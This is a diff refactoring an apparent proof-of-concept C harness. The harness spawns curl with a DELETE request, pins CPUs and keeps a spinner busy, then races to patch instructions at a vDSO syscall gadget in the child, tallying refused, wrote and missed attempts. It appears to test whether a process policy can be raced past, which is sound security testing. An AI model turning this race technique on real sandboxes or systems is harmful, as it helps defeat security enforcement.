@@ -49,36 +49,11 @@ static int committed(pid_t c, int *gone)
     return !*gone && strstr(buf, "(curl)") != NULL;
 }
 
-/* The child's vDSO base from its auxv (the kernel's copy, not its stack), 0 when unreadable. */
-static unsigned long vdso_of(pid_t c)
-{
-    char path[64];
-    unsigned long aux[128];
-    snprintf(path, sizeof path, "/proc/%d/auxv", c);
-    int fd = open(path, O_RDONLY | O_CLOEXEC);
-    ssize_t n = fd >= 0 ? read(fd, aux, sizeof aux) : -1;
-    if (fd >= 0)
-        close(fd);
-    for (ssize_t i = 0; i + 1 < n / 8 && aux[i] != AT_NULL; i += 2)
-        if (aux[i] == AT_SYSINFO_EHDR)
-            return aux[i + 1];
-    return 0;
-}
-
 static int try_once(const char *insn, const char *prog, const char *url, long goff, int *wrote, int *missed)
 {
     char *av[] = {(char *)prog, (char *)"-s", (char *)"-X", (char *)"DELETE", (char *)url, NULL};
     char *ev[] = {(char *)"PATH=/usr/bin:/bin", NULL};
-    pid_t c = fork();
-    if (c < 0)
-        DIE("fork");
-    if (c == 0) {
-        pin(0, 0);
-        if (setpriority(PRIO_PROCESS, 0, 19) < 0)
-            DIE("setpriority");
-        execve(prog, av, ev);
-        _exit(errno == EPERM ? 100 : 101);
-    }
+    pid_t c = start_exec(prog, av, ev);
     int gone = 0, landed = 0;
     double deadline = now() + 2;
     while (!committed(c, &gone) && !gone && now() < deadline) {
@@ -99,13 +74,7 @@ static int try_once(const char *insn, const char *prog, const char *url, long go
         (*wrote)++;
     else
         (*missed)++;
-    cpu_set_t any;
-    CPU_ZERO(&any);
-    CPU_SET(1, &any);
-    sched_setaffinity(c, sizeof any, &any);
-    int st;
-    if (waitpid(c, &st, 0) < 0)
-        DIE("waitpid");
+    int st = finish_exec(c);
     if (WIFSIGNALED(st))
         return 1;
     return WEXITSTATUS(st) == 126 ? 0 : WEXITSTATUS(st) == 100 ? 3 : 2;
@@ -120,25 +89,12 @@ int main(int argc, char **argv)
     const char *insn = strcmp(argv[1], "xor") == 0 ? "\x31\xc0" : "\xeb\xfe";
     int n = atoi(argv[2]);
     setvbuf(stdout, NULL, _IONBF, 0);
-    long goff = gadget_offset();
-    if (goff < 0) {
-        fprintf(stderr, "refused-race: no syscall instruction in the vDSO\n");
-        return 2;
-    }
-    pid_t spinner = fork();
-    if (spinner < 0)
-        DIE("fork");
-    if (spinner == 0) {
-        pin(0, 0);
-        for (;;) {
-        }
-    }
-    pin(0, 1);
+    long goff = need_gadget();
+    pid_t spinner = start_spinner();
     int counts[4] = {0, 0, 0, 0}, wrote = 0, missed = 0;
     for (int i = 0; i < n; i++)
         counts[try_once(insn, argv[3], argv[4], goff, &wrote, &missed)]++;
-    kill(spinner, SIGKILL);
-    waitpid(spinner, NULL, 0);
+    stop_spinner(spinner);
     printf("tries %d ended %d killed %d ran %d refused %d wrote %d missed %d\n", n, counts[0], counts[1], counts[2], counts[3], wrote, missed);
     return 0;
 }
